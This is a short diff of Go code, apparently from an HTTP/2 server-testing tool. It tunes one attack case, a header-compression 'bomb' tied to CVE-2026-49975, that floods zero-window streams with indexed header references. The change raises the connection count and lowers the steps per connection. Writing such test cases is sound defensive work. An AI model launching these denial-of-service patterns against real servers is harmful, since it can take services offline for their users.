@@ -56,12 +56,12 @@ func blocks() []Attack {
 			Step:  func(c *Conn, _ int) { c.headers(references(4000), true) },
 		},
 		{
-			ID: "bomb-below-limit", Title: "HTTP/2 bomb below the limits of all: 80 references, on streams whose window is 0", Refs: "CVE-2026-49975", Rate: 1000,
-			Connections: 4, Lasts: pinned, Bound: bounded,
+			ID: "bomb-below-limit", Title: "HTTP/2 bomb below the limits of all: 80 references, on 20 times 100 streams whose window is 0", Refs: "CVE-2026-49975", Rate: 1000,
+			Connections: 20, Lasts: pinned, Bound: bounded,
 			Begin: begin(0),
 			First: func(c *Conn) { c.headers(c.request("GET", raw.Marked, "cookie", "a=b"), true) },
 			Step: func(c *Conn, i int) {
-				if i < 500 {
+				if i < 99 {
 					c.headers(references(80), true)
 				}
 				c.do(c.frames.WriteWindowUpdate(0, 1)) // something is going on
